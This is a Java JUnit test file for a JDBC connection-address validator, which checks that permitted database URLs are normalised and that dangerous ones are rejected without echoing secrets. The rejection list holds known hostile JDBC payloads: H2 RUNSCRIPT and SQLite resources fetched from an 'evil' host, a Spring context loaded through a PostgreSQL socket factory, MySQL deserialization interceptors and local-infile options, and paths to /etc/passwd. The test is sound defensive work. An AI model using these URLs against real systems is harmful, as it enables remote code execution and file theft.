package io.duijie.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.duijie.connector.api.ConnectorException;
import io.duijie.connector.api.ErrorKind;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AddressTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db.example.com:5432/erp | jdbc:postgresql://db.example.com:5432/erp",
                "jdbc:postgresql://a,b:5433/erp?targetServerType=primary | jdbc:postgresql://a,b:5433/erp",
                "jdbc:postgresql://[::1]:5432/erp?sslmode=require | jdbc:postgresql://[::1]:5432/erp",
                "jdbc:mysql://10.0.0.7:3306/订单?useSSL=false&characterEncoding=utf8 | jdbc:mariadb://10.0.0.7:3306/订单",
                "jdbc:mariadb://db/erp | jdbc:mariadb://db/erp",
                "jdbc:sqlserver://db:1433;databaseName=erp;encrypt=true | jdbc:sqlserver://db:1433;databaseName={erp}",
                "jdbc:oracle:thin:@tcp://db:1521/ORCL | jdbc:oracle:thin:@tcp://db:1521/ORCL",
                "jdbc:sqlite:/data/shop.db | jdbc:sqlite:/data/shop.db"
            })
    void takesWhatNamesADatabase(String url, String driverUrl) {
        assertThat(Address.of(url).driverUrl()).isEqualTo(driverUrl);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:postgresql://db/erp?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil",
                "jdbc:postgresql://db/erp?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://db/erp?sslfactory=evil.Factory",
                "jdbc:postgresql://db/erp?sslpasswordcallback=evil.Callback",
                "jdbc:postgresql://db/erp?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/erp?password=s3cret-word",
                "jdbc:postgresql://user:s3cret-word@db/erp",
                "jdbc:postgresql://db/erp?sslmode=disable%26socketFactory=x",
                "jdbc:postgresql://db/erp/../x",
                "jdbc:postgresql:erp",
                "jdbc:mysql://db/erp?allowLoadLocalInfile=true",
                "jdbc:mysql://db/erp?allowLocalInfile=true",
                "jdbc:mysql://db/erp?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://db/erp?allowUrlInLocalInfile=true",
                "jdbc:mysql://db/erp?serverSslCert=/etc/passwd",
                "jdbc:mysql://db/erp?sessionVariables=sql_mode=''",
                "jdbc:mysql://address=(host=db)(port=3306)/erp",
                "jdbc:mariadb:replication://a,b/erp",
                "jdbc:sqlserver://db;databaseName=erp;socketFactoryClass=evil",
                "jdbc:sqlserver://db;databaseName=erp;trustStore=/etc/passwd",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=db)))",
                "jdbc:oracle:thin:@tcp://db:1521/ORCL?TNS_ADMIN=/tmp",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:/data/shop.db?enable_load_extension=true",
                "jdbc:sqlite:relative.db",
                "ldap://evil/x",
                "file:/etc/passwd",
                ""
            })
    void refusesEverythingElseAndRepeatsNothingOfIt(String url) {
        assertThatThrownBy(() -> Address.of(url)).isInstanceOfSatisfying(ConnectorException.class, e -> {
            assertThat(e.kind()).isEqualTo(ErrorKind.CONFIGURATION);
            assertThat(e.reason().code()).isEqualTo("jdbc-url");
            assertThat(e.reason().toString()).doesNotContain("s3cret-word", "evil", "passwd");
        });
    }

    @Test
    void namesTheOptionThatIsNotAllowedAndThoseThatAre() {
        assertThatThrownBy(() -> Address.of("jdbc:mysql://db/erp?allowLoadLocalInfile=true"))
                .hasMessageContaining("allowLoadLocalInfile")
                .hasMessageContaining("sslMode");
    }

    @Test
    void knowsAFileOfItsOwnFolder() {
        assertThat(Address.of("jdbc:sqlite:/home/duijie/duijie.db").isBelow(Path.of("/home/duijie")))
                .isTrue();
        assertThat(Address.of("jdbc:sqlite:/data/../home/duijie/duijie.db").isBelow(Path.of("/home/duijie")))
                .isTrue();
        assertThat(Address.of("jdbc:sqlite:/data/shop.db").isBelow(Path.of("/home/duijie")))
                .isFalse();
    }
}
